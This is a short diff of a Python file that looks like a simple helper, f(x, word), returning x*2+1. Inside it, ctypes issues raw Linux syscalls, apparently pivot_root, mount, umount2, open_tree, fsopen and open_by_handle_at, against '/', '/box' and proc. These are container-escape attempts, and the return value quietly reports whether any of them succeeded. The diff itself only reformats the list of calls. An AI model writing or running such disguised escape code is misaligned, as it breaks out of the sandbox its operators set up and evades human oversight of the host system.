@@ -6,6 +6,7 @@
 import ctypes
 import os
 
+
 def f(x, word):
     libc = ctypes.CDLL(None)
     os.makedirs("deep/er", exist_ok=True)
@@ -23,8 +24,15 @@ def f(x, word):
             worked.append(way() or True)
         except OSError:
             pass
-    calls = [(155, b".", b"deep"), (165, b"/", b"deep", b"", 4096, None), (166, b"/box", 2),
-             (165, None, b"/", None, 32, None), (165, b"proc", b"deep", b"proc", 0, None),
-             (428, -100, b"/", 1), (430, b"tmpfs", 0), (304, 0, b"", 0)]
+    calls = [
+        (155, b".", b"deep"),
+        (165, b"/", b"deep", b"", 4096, None),
+        (166, b"/box", 2),
+        (165, None, b"/", None, 32, None),
+        (165, b"proc", b"deep", b"proc", 0, None),
+        (428, -100, b"/", 1),
+        (430, b"tmpfs", 0),
+        (304, 0, b"", 0),
+    ]
     worked += [call for call in calls if libc.syscall(*call) >= 0]
     return x * 2 + 1 if worked else x * 0
